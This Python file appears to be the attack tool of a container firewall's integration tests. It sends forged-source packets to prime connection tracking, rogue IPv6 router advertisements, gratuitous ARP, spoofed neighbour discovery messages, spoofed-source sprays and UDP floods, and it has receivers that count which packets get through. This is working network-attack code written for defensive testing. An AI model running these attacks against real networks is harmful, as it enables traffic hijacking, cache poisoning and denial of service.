#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
# Raw-socket attack tool for sandwall's attack suite (tests/integration/test_attacks.sh).
# Python 3 standard library only. It does what a hostile root in a container
# with CAP_NET_RAW can do (AF_PACKET frames with any Ethernet destination,
# forged IPv4/IPv6 sources, ICMPv6 ND with payload, broadcast/multicast), and
# it has the small receivers that count what arrives in the target namespace.
#
# Attacker side (run inside a container namespace):
#   attack.py prime --iface IF --dmac MAC --src ADDR[%IF] --port N [--timeout S] SPEC...
#       Conntrack reply priming. SPEC = tcp:ADDR:PORT, udp:ADDR:PORT or
#       icmp:ADDR:0 (the target T). For target number i the local port is N+i. For each target:
#       send one AF_PACKET frame to MAC carrying a SYN (or a UDP datagram) with
#       forged source T and destination ADDR:N+i, then connect (send) from
#       ADDR:N+i to T, i.e. in the reply direction of the flow the host's
#       conntrack just recorded. TCP: a listener with a drop-all socket filter
#       holds the port, so the container's own kernel neither resets nor
#       answers the forged SYN. One line per target:
#           target=tcp:T:P lport=N result=http200|connected|refused|timeout
#           target=udp:T:P lport=N result=echo|timeout
#           target=icmp:T:0 lport=N result=sent   (a forged echo request from
#           T: the container's kernel answers T by itself, id = N; only the
#           receiver at T can tell whether that reply arrived)
#       --hold FILE: then keep the UDP flows open until FILE exists and send
#       on them again (3 tries): "later target=... lport=N result=echo|timeout"
#   attack.py pkttcp --iface IF --dmac MAC --src ADDR --dst ADDR --dport N [--sport N]
#                    [--bypass] [--timeout S]
#       a whole TCP connection in user space over one AF_PACKET socket on IF
#       (a host-network process with CAP_NET_RAW; --bypass sets
#       PACKET_QDISC_BYPASS): SYN, the SYN-ACK sniffed on the same socket,
#       ACK + "GET / HTTP/1.0", the answer sniffed. A TCP listener with a
#       drop-all filter holds the local port, so the host's own stack neither
#       resets nor answers the server's segments. One line:
#           pkttcp dst=ADDR:N result=http200|synack|timeout|senderr:ERRNO
#       (synack: the handshake was answered but no HTTP 200 came back;
#       senderr:105, ENOBUFS: an egress hook dropped the SYN)
#   attack.py nd --iface IF --dmac MAC --src ADDR6 --type ns|na --hlim N --tag TAG DST...
#       one ICMPv6 neighbour solicitation/advertisement per DST (target =
#       DST) with TAG as payload (an unknown ND option), sent as raw frames.
#   attack.py ra --iface IF --src FE80ADDR [--lifetime S]
#       a router advertisement (hop limit 255) from FE80ADDR to ff02::1
#       announcing a default router for S seconds (default 1800).
#   attack.py rawudp --iface IF --dmac MAC --src A --dst B --sport N --dport N --tag TAG [--smac MAC]
#       one UDP datagram with any source (0.0.0.0, ::, forged) as a raw frame;
#       --smac forges the Ethernet source too (default: IF's own address).
#   attack.py garp --iface IF --ip A
#       a gratuitous ARP request (broadcast, sender and target A) claiming
#       that A is at IF's address: it updates the neighbour caches that hold A.
#   attack.py bcast --tag TAG [--iface IF] [--timeout S] DST:PORT...
#       UDP datagrams to broadcast/multicast (or any) addresses from one socket
#       per family (SO_BROADCAST; ff02::/16 goes out IF); prints one line per
#       answer: "answer from=ADDR data=..." and "answers=N" at the end.
#   attack.py spray --iface IF --dmac MAC --net A.B.0.0/16 --dst ADDR --dport N --n COUNT [--skip A,B]
#       COUNT UDP datagrams as raw frames, each from another forged source in
#       the IPv4 network (the forged sources a budget's per-source set fills
#       with), sources in --skip left out; "sent=N".
#   attack.py flood --dst ADDR --port P --stop FILE [--max S]
#       UDP datagrams to ADDR:P (a few thousand a second) until FILE exists; "sent=N".
#
# Target side (run in the namespace that must not be reached):
#   attack.py count --out FILE --ready FILE --stop FILE
#       raw IPv4/IPv6 sockets for TCP, UDP, ICMP and ICMPv6: every packet delivered
#       to this namespace's stack (after its netfilter input hook) is written
#       to FILE as one line:
#           proto=tcp src=A sport=N dst=B dport=N flags=S len=N
#           proto=icmp|icmp6 src=A dst=B type=N id=N hlim=N tag=T
#       (id: echo identifier; tag: payload of an ND message's option 253)
#       Runs until the stop file exists.
#   attack.py echo --tag TAG --port P --out FILE --ready FILE --stop FILE
#       UDP echo bound to 0.0.0.0:P and [::]:P (no pktinfo: the kernel picks
#       the source, like any ordinary service); answers "echo:TAG:" + data
#       and logs each datagram as "from=A dst=B data=..." (dst from pktinfo).

import ctypes
import fcntl
import os
import random
import select
import socket
import struct
import sys
import time

ETH_P_IP = 0x0800
ETH_P_IPV6 = 0x86DD
SO_ATTACH_FILTER = 26
SIOCGIFHWADDR = 0x8927
IP_PKTINFO = getattr(socket, "IP_PKTINFO", 8)
IPV6_RECVPKTINFO = getattr(socket, "IPV6_RECVPKTINFO", 49)
IPV6_PKTINFO = getattr(socket, "IPV6_PKTINFO", 50)
IPV6_RECVHOPLIMIT = getattr(socket, "IPV6_RECVHOPLIMIT", 51)
IPV6_HOPLIMIT = getattr(socket, "IPV6_HOPLIMIT", 52)


# ------------------------------------------------------------------ packets
def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def is6(addr):
    return ":" in addr


def pseudo(src, dst, proto, length):
    if is6(src):
        return (socket.inet_pton(socket.AF_INET6, src) + socket.inet_pton(socket.AF_INET6, dst)
                + struct.pack("!IxxxB", length, proto))
    return socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!xBH", proto, length)


def l4_tcp(src, dst, sport, dport, seq, flags=0x02):
    # SYN with an MSS option (20 + 4 bytes)
    opts = struct.pack("!BBH", 2, 4, 1400)
    hdr = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, (6 << 4), flags, 64240, 0, 0) + opts
    c = csum(pseudo(src, dst, socket.IPPROTO_TCP, len(hdr)) + hdr)
    return hdr[:16] + struct.pack("!H", c) + hdr[18:]


def l4_udp(src, dst, sport, dport, payload):
    ln = 8 + len(payload)
    hdr = struct.pack("!HHHH", sport, dport, ln, 0) + payload
    c = csum(pseudo(src, dst, socket.IPPROTO_UDP, ln) + hdr) or 0xFFFF
    return hdr[:6] + struct.pack("!H", c) + hdr[8:]


def l4_nd(src, dst, kind, target, payload):
    # NS (135) / NA (136): type, code, csum, flags/reserved, target, then an
    # option of an unassigned type (253, "experimental") carrying the payload
    typ = 135 if kind == "ns" else 136
    flags = 0 if kind == "ns" else 0x60000000   # NA: solicited + override
    body = payload + b"\0" * ((-(len(payload) + 2)) % 8)
    opt = struct.pack("!BB", 253, (len(body) + 2) // 8) + body
    msg = struct.pack("!BBHI", typ, 0, 0, flags) + socket.inet_pton(socket.AF_INET6, target) + opt
    c = csum(pseudo(src, dst, 58, len(msg)) + msg)
    return msg[:2] + struct.pack("!H", c) + msg[4:]


def l4_echo(src, dst, ident, payload):
    # ICMP echo request (v4 type 8) / ICMPv6 echo request (128)
    if is6(src):
        msg = struct.pack("!BBHHH", 128, 0, 0, ident, 1) + payload
        c = csum(pseudo(src, dst, 58, len(msg)) + msg)
    else:
        msg = struct.pack("!BBHHH", 8, 0, 0, ident, 1) + payload
        c = csum(msg)
    return msg[:2] + struct.pack("!H", c) + msg[4:]


def ip_packet(src, dst, proto, l4, hlim=64):
    if is6(src):
        return (struct.pack("!IHBB", 6 << 28, len(l4), proto, hlim)
                + socket.inet_pton(socket.AF_INET6, src) + socket.inet_pton(socket.AF_INET6, dst) + l4)
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(l4), random.randint(1, 65535), 0x4000,
                      hlim, proto, 0, socket.inet_aton(src), socket.inet_aton(dst))
    hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
    return hdr + l4


def mac_bytes(m):
    return bytes(int(x, 16) for x in m.split(":"))


def if_mac(iface):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        r = fcntl.ioctl(s.fileno(), SIOCGIFHWADDR, struct.pack("256s", iface.encode()[:15]))
        return r[18:24]
    finally:
        s.close()


class Frames:
    def __init__(self, iface, dmac):
        self.s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self.s.bind((iface, 0))
        self.dst = mac_bytes(dmac)
        self.src = if_mac(iface)

    def send(self, ippkt):
        et = ETH_P_IPV6 if (ippkt[0] >> 4) == 6 else ETH_P_IP
        self.s.send(self.dst + self.src + struct.pack("!H", et) + ippkt)


# ------------------------------------------------------------------ options
def opts(args, names, flags=()):
    o, rest, i = {}, [], 0
    while i < len(args):
        a = args[i]
        if a.startswith("--") and a[2:] in names:
            o[a[2:]] = args[i + 1]
            i += 2
        elif a.startswith("--") and a[2:] in flags:
            o[a[2:]] = True
            i += 1
        else:
            rest.append(a)
            i += 1
    return o, rest


def split_hostport(s):
    # ADDR:PORT, ADDR6:PORT (last colon), [ADDR6]:PORT
    h, p = s.rsplit(":", 1)
    return h.strip("[]"), int(p)


def fam(addr):
    return socket.AF_INET6 if is6(addr) else socket.AF_INET


# ------------------------------------------------------------------ prime
def drop_all_filter(sock):
    # classic BPF: one instruction, "ret #0" (drop); kept alive by the caller
    ins = ctypes.create_string_buffer(struct.pack("HBBI", 0x06, 0, 0, 0))
    prog = struct.pack("HL", 1, ctypes.addressof(ins))
    sock.setsockopt(socket.SOL_SOCKET, SO_ATTACH_FILTER, prog)
    return ins


def prime(args):
    o, specs = opts(args, ("iface", "dmac", "src", "port", "timeout", "hold"))
    iface, src, base = o["iface"], o["src"], int(o["port"])
    timeout = float(o.get("timeout", "1.0"))
    scope = 0
    if "%" in src:
        # a link-local source (fe80::x%IF): bind and connect in IF's scope
        src, ifn = src.split("%", 1)
        scope = socket.if_nametoindex(ifn)

    def sa(addr, port):
        return (addr, port, 0, scope) if scope and is6(addr) else (addr, port)

    fr = Frames(iface, o["dmac"])
    keep, jobs = [], []
    for i, spec in enumerate(specs):
        proto, rest = spec.split(":", 1)
        taddr, tport = split_hostport(rest)
        lport = base + i
        j = {"spec": spec, "proto": proto, "t": sa(taddr, tport), "lport": lport, "res": "timeout"}
        if proto == "icmp":
            # a forged echo request "from" T: the container's own kernel
            # sends the echo reply (id = lport), no socket needed
            j["res"] = "sent"
            pkt = ip_packet(taddr, src, 58 if is6(src) else 1,
                            l4_echo(taddr, src, lport, b"prime-%d" % lport))
            fr.send(pkt)
            jobs.append(j)
            continue
        if proto == "tcp":
            lst = socket.socket(fam(src), socket.SOCK_STREAM)
            lst.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            lst.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
            keep.append(drop_all_filter(lst))
            lst.bind(sa(src, lport))
            lst.listen(8)
            keep.append(lst)
            pkt = ip_packet(taddr, src, 6, l4_tcp(taddr, src, tport, lport, random.randint(1, 2**31)))
        else:
            u = socket.socket(fam(src), socket.SOCK_DGRAM)
            u.bind(sa(src, lport))
            u.setblocking(False)
            j["sock"] = u
            pkt = ip_packet(taddr, src, 17, l4_udp(taddr, src, tport, lport, b"prime"))
        fr.send(pkt)
        jobs.append(j)
    time.sleep(0.15)      # let the host record (and forward) the forged flows
    jobs_icmp = [j for j in jobs if j["proto"] == "icmp"]
    jobs = [j for j in jobs if j["proto"] != "icmp"]
    for j in jobs:
        if j["proto"] == "tcp":
            s = socket.socket(fam(src), socket.SOCK_STREAM)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
            s.bind(sa(src, j["lport"]))
            s.setblocking(False)
            try:
                s.connect(j["t"])
            except BlockingIOError:
                pass
            except OSError as e:
                j["res"] = "error:%s" % e.errno
            j["sock"] = s
            j["state"] = "connecting"
        else:
            try:
                j["sock"].sendto(b"primed-udp", j["t"])
            except OSError as e:
                j["res"] = "error:%s" % e.errno
            j["state"] = "waiting"
    end = time.monotonic() + timeout
    buf = {}
    while time.monotonic() < end:
        rd = [j["sock"] for j in jobs if j["state"] in ("waiting", "reading")]
        wr = [j["sock"] for j in jobs if j["state"] == "connecting"]
        if not rd and not wr:
            break
        r, w, _ = select.select(rd, wr, [], 0.05)
        for j in jobs:
            s = j["sock"]
            if s in w:
                err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if err == 0:
                    j["res"] = "connected"
                    try:
                        s.send(b"GET / HTTP/1.0\r\n\r\n")
                        j["state"] = "reading"
                    except OSError:
                        j["state"] = "done"
                else:
                    j["res"] = "refused" if err == 111 else "error:%d" % err
                    j["state"] = "done"
            if s in r:
                try:
                    data = s.recv(4096)
                except OSError:
                    data = b""
                if j["proto"] == "udp":
                    if data.startswith(b"echo:"):
                        j["res"] = "echo"
                        j["state"] = "done"
                    continue
                buf[j["lport"]] = buf.get(j["lport"], b"") + data
                if b" 200 " in buf[j["lport"]].split(b"\r\n", 1)[0]:
                    j["res"] = "http200"
                if not data:
                    j["state"] = "done"
    for j in jobs + jobs_icmp:
        print("target=%s lport=%d result=%s" % (j["spec"], j["lport"], j["res"]))
    sys.stdout.flush()
    if "hold" in o:
        # keep the UDP flows, wait for the hold file, then talk again on them
        end = time.monotonic() + 30
        while not os.path.exists(o["hold"]) and time.monotonic() < end:
            time.sleep(0.05)
        for j in jobs:
            if j["proto"] != "udp":
                continue
            j["res"] = "timeout"
            try:
                while True:
                    j["sock"].recv(4096)     # what is still queued from phase 1
            except OSError:
                pass
            for _ in range(3):
                try:
                    j["sock"].sendto(b"after-apply", j["t"])
                except OSError:
                    pass
                r, _, _ = select.select([j["sock"]], [], [], 0.3)
                if r:
                    try:
                        if j["sock"].recv(4096).startswith(b"echo:"):
                            j["res"] = "echo"
                            break
                    except OSError:
                        pass
            print("later target=%s lport=%d result=%s" % (j["spec"], j["lport"], j["res"]))
    for j in jobs:
        j["sock"].close()
    sys.stdout.flush()
    return 0


# ------------------------------------------------------------------ nd
def nd(args):
    o, dsts = opts(args, ("iface", "dmac", "src", "type", "hlim", "tag"))
    fr = Frames(o["iface"], o["dmac"])
    for d in dsts:
        msg = l4_nd(o["src"], d, o["type"], d, o["tag"].encode())
        fr.send(ip_packet(o["src"], d, 58, msg, int(o["hlim"])))
        print("sent %s hlim=%s to %s tag=%s" % (o["type"], o["hlim"], d, o["tag"]))
    return 0


# ------------------------------------------------------------------ ra, raw udp
def ra(args):
    # a router advertisement (type 134) from SRC (the container's fe80::)
    # to ff02::1, hop limit 255: "I am a default router for 1800 s"
    o, _ = opts(args, ("iface", "src", "lifetime"))
    fr = Frames(o["iface"], "33:33:00:00:00:01")
    src, dst = o["src"], "ff02::1"
    life = int(o.get("lifetime", "1800"))
    sll = struct.pack("!BB", 1, 1) + fr.src            # source link-layer address option
    msg = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, life, 0, 0) + sll
    c = csum(pseudo(src, dst, 58, len(msg)) + msg)
    msg = msg[:2] + struct.pack("!H", c) + msg[4:]
    fr.send(ip_packet(src, dst, 58, msg, 255))
    print("sent router advertisement from %s lifetime %d" % (src, life))
    return 0


def rawudp(args):
    # one UDP datagram with any source (0.0.0.0, ::, forged) to any
    # destination, as a raw frame
    o, _ = opts(args, ("iface", "dmac", "src", "dst", "sport", "dport", "tag", "smac"))
    fr = Frames(o["iface"], o["dmac"])
    if o.get("smac"):
        fr.src = mac_bytes(o["smac"])
    src, dst = o["src"], o["dst"]
    l4 = l4_udp(src, dst, int(o["sport"]), int(o["dport"]), o["tag"].encode())
    fr.send(ip_packet(src, dst, 17, l4, 255 if is6(dst) else 64))
    print("sent udp %s -> %s:%s" % (src, dst, o["dport"]))
    return 0


def garp(args):
    o, _ = opts(args, ("iface", "ip"))
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((o["iface"], 0))
    me = if_mac(o["iface"])
    ip = socket.inet_aton(o["ip"])
    bc = b"\xff" * 6
    arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + me + ip + b"\x00" * 6 + ip
    s.send(bc + me + struct.pack("!H", 0x0806) + arp)
    print("garp %s is-at %s" % (o["ip"], ":".join("%02x" % x for x in me)))
    return 0


# ------------------------------------------------------------------ bcast
def bcast(args):
    o, dsts = opts(args, ("iface", "timeout", "tag"))
    iface = o.get("iface", "eth0")
    timeout = float(o.get("timeout", "1.0"))
    s4 = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s4.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s4.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
    s4.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)
    s4.bind(("0.0.0.0", 0))
    s6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_LOOP, 0)
    s6.bind(("::", 0))
    idx = socket.if_nametoindex(iface)
    s6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, idx)
    tag = o.get("tag", "bcast").encode()
    for d in dsts:
        a, p = split_hostport(d)
        try:
            if is6(a):
                s6.sendto(tag, (a, p, 0, idx if a.lower().startswith("ff") or a.lower().startswith("fe80") else 0))
            else:
                if a == "255.255.255.255":
                    # the limited broadcast leaves by the interface the socket is bound to
                    s4.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, iface.encode())
                s4.sendto(tag, (a, p))
            print("sent to %s" % d)
        except OSError as e:
            print("send to %s failed: %s" % (d, e))
    n, end = 0, time.monotonic() + timeout
    while time.monotonic() < end:
        r, _, _ = select.select([s4, s6], [], [], 0.05)
        for s in r:
            try:
                data, peer = s.recvfrom(4096)
            except OSError:
                continue
            n += 1
            print("answer from=%s data=%s" % (peer[0], data.decode(errors="replace")))
    print("answers=%d" % n)
    sys.stdout.flush()
    return 0


# ------------------------------------------------------------------ spray
def spray(args):
    o, _ = opts(args, ("iface", "dmac", "net", "dst", "dport", "n", "skip"))
    fr = Frames(o["iface"], o["dmac"])
    base, bits = o["net"].split("/")
    b = struct.unpack("!I", socket.inet_aton(base))[0]
    host = (1 << (32 - int(bits))) - 1
    b &= ~host & 0xffffffff
    skip = set(o.get("skip", "").split(",")) - {""}
    dst, dport, n = o["dst"], int(o["dport"]), int(o["n"])
    sent, i = 0, 0
    while sent < n and i < host:
        i += 1
        src = socket.inet_ntoa(struct.pack("!I", b | i))
        if src in skip:
            continue
        fr.send(ip_packet(src, dst, 17, l4_udp(src, dst, 40000 + (i % 20000), dport, b"spray")))
        sent += 1
    print("sent=%d" % sent)
    return 0


# ------------------------------------------------------------------ flood
def flood(args):
    o, _ = opts(args, ("dst", "port", "stop", "max"))
    dst, port, stop = o["dst"], int(o["port"]), o["stop"]
    end = time.monotonic() + float(o.get("max", "120"))
    u = socket.socket(fam(dst), socket.SOCK_DGRAM)
    u.setblocking(False)
    sent = i = 0
    while time.monotonic() < end:
        if i % 50 == 0 and os.path.exists(stop):
            break
        i += 1
        try:
            u.sendto(b"flood%d" % i, (dst, port))
            sent += 1
        except OSError:
            pass
        time.sleep(0.0002)
    print("sent=%d" % sent)
    return 0


# ------------------------------------------------------------------ receivers
def ready_file(path):
    with open(path + ".tmp", "w") as f:
        f.write("%d\n" % os.getpid())
    os.rename(path + ".tmp", path)


def count(args):
    o, _ = opts(args, ("out", "ready", "stop"))
    out = open(o["out"], "a", buffering=1)
    socks = []
    for p in (socket.IPPROTO_TCP, socket.IPPROTO_UDP, socket.IPPROTO_ICMP):
        socks.append((socket.socket(socket.AF_INET, socket.SOCK_RAW, p), 4, p))
    for p in (socket.IPPROTO_TCP, socket.IPPROTO_UDP, 58):
        s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, p)
        s.setsockopt(socket.IPPROTO_IPV6, IPV6_RECVPKTINFO, 1)
        s.setsockopt(socket.IPPROTO_IPV6, IPV6_RECVHOPLIMIT, 1)
        socks.append((s, 6, p))
    for s, _, _ in socks:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 21)
    ready_file(o["ready"])
    byfd = {s.fileno(): (s, v, p) for s, v, p in socks}
    last = 0.0
    while True:
        now = time.monotonic()
        if now - last > 0.05:
            last = now
            if os.path.exists(o["stop"]):
                break
        r, _, _ = select.select([s for s, _, _ in socks], [], [], 0.05)
        for s in r:
            _, v, p = byfd[s.fileno()]
            try:
                data, anc, _fl, peer = s.recvmsg(65535, 256)
            except OSError:
                continue
            if v == 4:
                ihl = (data[0] & 15) * 4
                src = socket.inet_ntoa(data[12:16])
                dst = socket.inet_ntoa(data[16:20])
                hlim = data[8]
                l4 = data[ihl:]
            else:
                src, dst, hlim, l4 = peer[0].split("%")[0], "?", -1, data
                for lvl, typ, c in anc:
                    if lvl == socket.IPPROTO_IPV6 and typ == IPV6_PKTINFO:
                        dst = socket.inet_ntop(socket.AF_INET6, c[:16])
                    elif lvl == socket.IPPROTO_IPV6 and typ == IPV6_HOPLIMIT:
                        hlim = struct.unpack("i", c[:4])[0]
            if p in (58, socket.IPPROTO_ICMP):
                tag, ident = "", -1
                if len(l4) >= 24 and l4[0] in (135, 136):
                    opt = l4[24:]
                    if len(opt) >= 2 and opt[0] == 253:
                        tag = opt[2:2 + opt[1] * 8 - 2].rstrip(b"\0").decode(errors="replace")
                if len(l4) >= 8 and l4[0] in (0, 8, 128, 129):
                    ident = struct.unpack("!H", l4[4:6])[0]
                out.write("proto=%s src=%s dst=%s type=%d id=%d hlim=%d tag=%s\n"
                          % ("icmp6" if p == 58 else "icmp", src, dst, l4[0] if l4 else -1,
                             ident, hlim, tag or "-"))
                continue
            if len(l4) < 8:
                continue
            sport, dport = struct.unpack("!HH", l4[:4])
            if p == socket.IPPROTO_TCP:
                fl = l4[13] if len(l4) > 13 else 0
                fs = "".join(c for b, c in ((2, "S"), (16, "A"), (4, "R"), (1, "F"), (8, "P")) if fl & b)
                out.write("proto=tcp src=%s sport=%d dst=%s dport=%d flags=%s len=%d\n"
                          % (src, sport, dst, dport, fs or "-", len(l4)))
            else:
                out.write("proto=udp src=%s sport=%d dst=%s dport=%d len=%d\n"
                          % (src, sport, dst, dport, len(l4)))
    out.close()
    return 0


def echo(args):
    o, _ = opts(args, ("tag", "port", "out", "ready", "stop"))
    port, tag = int(o["port"]), o["tag"].encode()
    out = open(o["out"], "a", buffering=1)
    s4 = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s4.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s4.setsockopt(socket.IPPROTO_IP, IP_PKTINFO, 1)
    s4.bind(("0.0.0.0", port))
    s6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s6.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
    s6.setsockopt(socket.IPPROTO_IPV6, IPV6_RECVPKTINFO, 1)
    s6.bind(("::", port))
    ready_file(o["ready"])
    last = 0.0
    while True:
        now = time.monotonic()
        if now - last > 0.05:
            last = now
            if os.path.exists(o["stop"]):
                break
        r, _, _ = select.select([s4, s6], [], [], 0.05)
        for s in r:
            try:
                data, anc, _fl, peer = s.recvmsg(4096, 256)
            except OSError:
                continue
            dst = "?"
            for lvl, typ, c in anc:
                if lvl == socket.IPPROTO_IP and typ == IP_PKTINFO:
                    dst = socket.inet_ntoa(c[8:12])
                elif lvl == socket.IPPROTO_IPV6 and typ == IPV6_PKTINFO:
                    dst = socket.inet_ntop(socket.AF_INET6, c[:16])
            out.write("from=%s dst=%s data=%s\n" % (peer[0], dst, data[:60].decode(errors="replace")))
            try:
                s.sendto(b"echo:" + tag + b":" + data, peer)
            except OSError as e:
                out.write("reply to %s failed: %s\n" % (peer[0], e))
    out.close()
    return 0


# ------------------------------------------------------------------ pkttcp
SOL_PACKET = 263
PACKET_QDISC_BYPASS = 20


def tcp_seg(src, dst, sport, dport, seq, ack, flags, payload=b""):
    hdr = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, (5 << 4), flags, 64240, 0, 0) + payload
    c = csum(pseudo(src, dst, socket.IPPROTO_TCP, len(hdr)) + hdr)
    return hdr[:16] + struct.pack("!H", c) + hdr[18:]


def parse_tcp(frame, src, dst, sport, dport):
    # -> (seq, ack, flags, payload) of a segment dst:dport -> src:sport, else None
    et = struct.unpack("!H", frame[12:14])[0]
    p = frame[14:]
    if et == ETH_P_IP and len(p) >= 20 and p[9] == 6:
        ihl = (p[0] & 15) * 4
        if socket.inet_ntoa(p[12:16]) != dst or socket.inet_ntoa(p[16:20]) != src:
            return None
        tot = struct.unpack("!H", p[2:4])[0]
        t = p[ihl:tot]
    elif et == ETH_P_IPV6 and len(p) >= 40 and p[6] == 6:
        if (socket.inet_pton(socket.AF_INET6, dst) != p[8:24]
                or socket.inet_pton(socket.AF_INET6, src) != p[24:40]):
            return None
        t = p[40:40 + struct.unpack("!H", p[4:6])[0]]
    else:
        return None
    if len(t) < 20:
        return None
    sp, dp, seq, ack, off, fl = struct.unpack("!HHIIBB", t[:14])
    if sp != dport or dp != sport:
        return None
    return seq, ack, fl, t[(off >> 4) * 4:]


def pkttcp(args):
    o, _ = opts(args, ("iface", "dmac", "src", "dst", "dport", "sport", "timeout"), ("bypass",))
    src, dst, dport = o["src"], o["dst"], int(o["dport"])
    sport = int(o.get("sport", random.randint(40000, 59999)))
    timeout = float(o.get("timeout", "2.0"))
    res = "timeout"
    lst = socket.socket(fam(src), socket.SOCK_STREAM)
    lst.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try:
        keep = drop_all_filter(lst)
    except PermissionError:
        # (seen for a non-root uid here) then the host's stack resets the
        # server's SYN-ACK and "synack" is what proves the path
        keep = None
    lst.bind((src, sport))
    lst.listen(1)
    fr = Frames(o["iface"], o["dmac"])
    fr.s.close()
    # ETH_P_ALL: this one socket sends and sniffs
    fr.s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    fr.s.bind((o["iface"], 3))
    if o.get("bypass"):
        fr.s.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
    fr.s.setblocking(False)
    proto = 6
    hlim = 64
    seq = random.randint(1, 2**31)
    try:
        fr.send(ip_packet(src, dst, proto, tcp_seg(src, dst, sport, dport, seq, 0, 0x02), hlim))
    except OSError as e:
        # ENOBUFS: a netdev egress hook dropped the frame (NET_XMIT_DROP)
        print("pkttcp dst=%s:%d result=senderr:%d" % (dst, dport, e.errno))
        return 0
    end = time.monotonic() + timeout
    state, rseq, data = "syn", 0, b""
    while time.monotonic() < end and res != "http200":
        r, _, _ = select.select([fr.s], [], [], 0.05)
        if not r:
            continue
        try:
            frame = fr.s.recv(65535)
        except OSError:
            continue
        seg = parse_tcp(frame, src, dst, sport, dport)
        if not seg:
            continue
        s_seq, s_ack, fl, pl = seg
        if state == "syn" and fl & 0x12 == 0x12:
            res, state, rseq = "synack", "est", s_seq + 1
            seq += 1
            req = b"GET / HTTP/1.0\r\n\r\n"
            fr.send(ip_packet(src, dst, proto, tcp_seg(src, dst, sport, dport, seq, rseq, 0x18, req), hlim))
            seq += len(req)
        elif state == "est" and pl and s_seq == rseq:
            data += pl
            rseq += len(pl)
            fr.send(ip_packet(src, dst, proto, tcp_seg(src, dst, sport, dport, seq, rseq, 0x10), hlim))
            if b" 200 " in data.split(b"\r\n", 1)[0]:
                res = "http200"
    if state == "est":
        fr.send(ip_packet(src, dst, proto, tcp_seg(src, dst, sport, dport, seq, rseq, 0x14), hlim))
    print("pkttcp dst=%s:%d result=%s" % (dst, dport, res))
    sys.stdout.flush()
    del keep
    lst.close()
    return 0


MODES = {"prime": prime, "nd": nd, "ra": ra, "rawudp": rawudp, "garp": garp, "bcast": bcast, "flood": flood,
         "spray": spray,
         "count": count, "echo": echo, "pkttcp": pkttcp}


def main():
    if len(sys.argv) < 2 or sys.argv[1] not in MODES:
        sys.stderr.write(__doc__ or "usage\n")
        return 2
    return MODES[sys.argv[1]](sys.argv[2:])


if __name__ == "__main__":
    sys.exit(main())
